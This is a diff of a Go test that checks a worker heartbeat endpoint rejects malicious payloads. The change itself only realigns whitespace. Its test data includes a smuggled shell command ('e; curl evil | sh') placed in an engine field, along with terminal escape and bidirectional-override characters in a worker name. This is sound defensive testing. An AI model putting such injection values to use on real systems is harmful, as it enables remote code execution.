@@ -32,8 +32,8 @@ func TestAWorkerPlantsNoCommands(t *testing.T) {
 		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"sms","text":"x"}]}`:                               "out_of_bounds",
 		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"mail","engine":"e; curl evil | sh","text":"x"}]}`: "invalid",
 		`{"worker":"h:1:a","conditions":[{"kind":"` + long + `","text":"x"}]}`:                                            "invalid",
-		`{"worker":"h:1:\u001b]0;a\u0007"}`:                                                                               "invalid",
-		`{"worker":"h:1:\u202ea"}`:                                                                                        "invalid",
+		`{"worker":"h:1:\u001b]0;a\u0007"}`: "invalid",
+		`{"worker":"h:1:\u202ea"}`:          "invalid",
 	} {
 		status := map[string]int{"out_of_bounds": 403, "invalid": 422}[code]
 		s.problem(s.ask("POST", "/work/heartbeat", body, as...), status, code)
